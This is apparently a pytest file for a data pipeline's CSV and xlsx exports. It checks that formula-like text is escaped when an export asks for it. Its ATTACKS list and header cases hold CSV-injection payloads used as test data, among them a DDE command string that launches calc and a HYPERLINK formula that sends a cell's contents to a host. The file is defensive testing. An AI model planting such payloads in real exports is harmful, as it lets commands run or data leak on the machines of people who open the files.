"""Exports that are opened in a spreadsheet: what would be computed there is a text, where the export asks for it; numbers stay numbers."""

import csv
import io
import json
from pathlib import Path
from zipfile import ZipFile

import pyarrow.parquet as pq
import pytest

from core.errors import InvalidProject
from core.export import FORMULAS
from core.sample import sample
from tests.hostile.figures import FIGURES
from tests.world import World

ROW = "formulas"
TABLE = """
dataset: t
source: {path: raw/t/, format: json}
columns: [{name: id, type: bigint}, {name: s}, {name: d, type: double}, {name: m, type: "decimal(9,2)"}, {name: l, type: "varchar[]"}]
target: {path: processed/t/}
exports: [{path: exports/t/, format: csvOPTION}, {path: exports/p/, format: parquet}]
"""
ESCAPED, PLAIN = TABLE.replace("OPTION", ", escape_formulas: true"), TABLE.replace("OPTION", "")
ATTACKS = [
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://example.com?"&A1,"x")', "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=", "-",
    '="a"', "=1,2", '=1";=2', "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20a", "+49 30 1234", "-5", "@me",
]  # fmt: skip
HARMLESS = ["", "a=b", "1-2", "'=1", " =1", "a", "1", "é", '"=1"', ",=1", "me@example.com", ";=1", "a\n=1", "http://example.com"]


def exported(world: World, key: str = "exports/t/t.csv") -> list[list[str]]:
    body = world.lake.store.get(key)
    assert body is not None
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


def filled(world: World, declared: str, texts: list[str]) -> World:
    records = [{"id": -n, "s": text, "d": -1.5, "m": "-2.50", "l": [text]} for n, text in enumerate(texts)]
    world.declare(declared).put("raw/t/a.json", json.dumps(records))
    world.run()
    return world


def test_what_a_spreadsheet_would_compute_is_a_text_where_the_export_asks_for_it(world: World) -> None:
    filled(world, ESCAPED, ATTACKS + HARMLESS)
    header, *rows = exported(world)
    assert header == ["id", "s", "d", "m", "l"]
    assert [row[1] for row in rows] == [f"'{text}" for text in ATTACKS] + HARMLESS
    assert [(row[0], row[2], row[3]) for row in rows] == [(str(-n), "-1.5", "-2.50") for n in range(len(rows))]
    assert [json.loads(row[4]) for row in rows] == [[text] for text in ATTACKS + HARMLESS]
    assert not any(cell.startswith(FORMULAS) for row in rows for cell in (row[1], row[4]))
    FIGURES.count(ROW, "escaped", len(ATTACKS))
    FIGURES.count(ROW, "left alone", len(HARMLESS))


def test_nothing_is_escaped_that_nobody_asked_for_nor_in_the_table_nor_in_parquet(world: World) -> None:
    filled(world, PLAIN, ATTACKS + HARMLESS)
    assert [row[1] for row in exported(world)[1:]] == ATTACKS + HARMLESS
    world.declare(ESCAPED)
    world.run()
    assert exported(world)[1][1] == "'=1+1", "an export that asks for it from now on is written again"
    assert world.values("select s from t order by _row") == ATTACKS + HARMLESS
    body = world.lake.store.get("exports/p/t.parquet") or b""
    assert pq.read_table(io.BytesIO(body))["s"].to_pylist() == ATTACKS + HARMLESS
    world.declare(PLAIN)
    world.run()
    assert exported(world)[1][1] == "=1+1"
    FIGURES.count(ROW, "kept in the table and in Parquet", len(ATTACKS + HARMLESS))


@pytest.mark.parametrize("name", ["=1+1", "+a", "-a", "@a", "=cmd|'/C calc'!A0"])
def test_a_header_is_a_cell_too(world: World, name: str) -> None:
    declared = ESCAPED.replace("{name: s}", json.dumps({"name": name, "from": "s"}))
    filled(world, declared, ["a", "=b"])
    assert exported(world)[0][1] == f"'{name}"
    assert [row[1] for row in exported(world)[1:]] == ["a", "'=b"]
    FIGURES.count(ROW, "headers")


def test_a_result_s_texts_are_escaped_and_its_numbers_are_not(world: World) -> None:
    declared = "transform: u\nsql: u.sql\nwhen: any_input\ntarget: {path: gold/u/, partition_by: [p]}\n"
    declared += "exports: [{path: exports/u/, format: csv, partition_by: [p], escape_formulas: true}]\n"
    sql = "select s as p, s, {'a': s} as n, map_keys(map([s], [1])) as k, -id as i, -1::hugeint as h, d < 0 as b, null as z from t"
    filled(world.declare(declared, u=sql), PLAIN, ["=1", "b"])
    ((key,), (other,)) = ([key for key in world.keys("exports/u/") if part in key] for part in ("p=b", "%3D1/u.csv"))
    assert exported(world, other)[1] == ["'=1", '{"a":"=1"}', '["=1"]', "0", "-1", "true", ""]
    assert exported(world, key)[1][0] == "b"
    FIGURES.count(ROW, "a transform's result", 2)


@pytest.mark.parametrize("values", [["a", None, "", "b"], [None], [None, None]])
def test_a_null_that_is_alone_in_its_line_is_a_line(world: World, values: list[str | None]) -> None:
    """A blank line is skipped by most readers, by ours too."""
    world.declare(
        "dataset: t\nsource: {path: raw/t/, format: json}\ncolumns: [{name: s}]\ntarget: {path: processed/t/}\n"
        "exports: [{path: exports/t/, format: csv}]\n"
    ).put("raw/t/a.json", json.dumps([{"s": value} for value in values]))
    world.run()
    assert (world.lake.store.get("exports/t/t.csv") or b"").decode() == "".join(
        ["s\n", *(f"{value}\n" if value else '""\n' for value in values)]
    )
    assert [row[0] for row in exported(world)] == ["s", *(value or "" for value in values)]


def test_parquet_has_no_formulas_to_escape(world: World) -> None:
    world.declare(TABLE.replace("csvOPTION", "csv").replace("format: parquet", "format: parquet, escape_formulas: true"))
    with pytest.raises(InvalidProject, match="escape_formulas is for csv"):
        _ = world.lake


def test_texts_of_a_workbook_that_we_write_are_texts(tmp_path: Path, world: World) -> None:
    """A sample is the one workbook that is written here."""
    texts = [
        "=1+1",
        "{=1}",
        "+1",
        "-1",
        "@a",
        "http://example.com",
        "mailto:a@example.com",
        "internal:Sheet!A1",
        "external:c:\\x.xlsx",
        "1",
    ]
    world.declare(TABLE.replace("json", "xlsx", 1).replace("OPTION", "").replace(', {name: l, type: "varchar[]"}', ""))
    made = tmp_path / "pipeline" / "samples" / "raw" / "t" / "a.xlsx.sql"
    made.parent.mkdir(parents=True)
    values = ", ".join(f"({n}, '{text.replace(chr(39), chr(39) * 2)}')" for n, text in enumerate(texts))
    made.write_text(f"select * from (values {values}) as t(id, s)")
    found: dict[str, bytes] = {}

    def put(key: str, file: Path) -> None:
        found[key] = file.read_bytes()

    sample(tmp_path / "pipeline", rows=1, owner=lambda _: world.lake.project.datasets["t"], put=put, work=tmp_path / "work")
    (book,) = found.values()
    sheet = ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    (tmp_path / "a.xlsx").write_bytes(book)
    import fastexcel

    cells = fastexcel.read_excel(str(tmp_path / "a.xlsx")).load_sheet(0, dtypes="string").to_arrow()
    assert cells["s"].to_pylist() == texts
    FIGURES.count(ROW, "texts of a workbook", len(texts))
